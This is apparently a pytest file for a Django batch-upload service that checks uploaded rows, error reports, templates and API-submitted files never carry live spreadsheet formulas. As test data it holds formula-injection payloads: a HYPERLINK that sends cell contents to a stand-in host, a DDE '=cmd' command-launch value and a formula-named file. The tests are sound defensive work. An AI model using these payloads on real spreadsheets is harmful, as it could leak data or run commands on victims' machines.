"""Batch spreadsheets never carry a live formula; a name or address that is a formula is refused at check."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from xietong.batches.services import batch_upload

from .helpers import csv_bytes, good_row, upload

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://x.example/?"&A1,"点我")'


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_error_report_writes_no_formula(client, world):
    rows = [
        good_row(1, name=PAYLOAD),
        good_row(2, address="=cmd|' /C calc'!A0"),
        good_row(3, principal="-5", phone="+1+1"),
        good_row(4, service_address="@SUM(A1)"),
    ]
    b = batch_upload(
        actor=world.users["bank"], institution=world.bank, file=upload(csv_bytes(rows), "=HYPERLINK(1).csv")
    ).batch
    codes = {r.number: {e["code"] for e in r.errors} for r in b.rows.all()}
    assert "formula" in codes[2] and "formula" in codes[3] and "formula" in codes[5]
    client.force_login(world.users["bank"])
    resp = client.get(reverse("batch-errors", args=[b.pk]))
    cells = _cells(resp.content)
    assert cells and all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + PAYLOAD in texts
    assert not [t for t in texts if t[:1] in "=+-@"]


def test_template_writes_no_formula(client, world):
    client.force_login(world.users["bank"])
    cells = _cells(client.get(reverse("batch-template")).content)
    assert cells and all(c.data_type != "f" for c in cells)


def test_a_json_batchs_file_holds_no_live_formula_and_its_rows_are_checked_as_sent(world):
    import json

    from django.test import Client

    from xietong.batches.models import Batch

    rows = [good_row(1, name=PAYLOAD), good_row(2, principal="-5"), good_row(3, address="+1+1"), good_row(4)]
    c = Client(HTTP_AUTHORIZATION=f"Bearer {world.api_token}")
    resp = c.post(
        "/api/v1/batches", json.dumps({"rows": rows}), content_type="application/json", HTTP_IDEMPOTENCY_KEY="f1"
    )
    assert resp.status_code == 201, resp.content
    b = Batch.objects.get(pk=resp.json()["id"])
    with b.file.open("rb") as fh:
        text = fh.read().decode("utf-8")
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert not [cell for cell in cells if cell.lstrip('"')[:1] in ("=", "+", "-", "@")]
    codes = {r.number: {e["code"] for e in r.errors} for r in b.rows.all()}
    assert codes[2] == {"formula"} and codes[4] == {"formula"}
    assert codes[3] == {"amount_negative"}  # not "not an amount": the apostrophe was taken off again
    assert codes[5] == set()
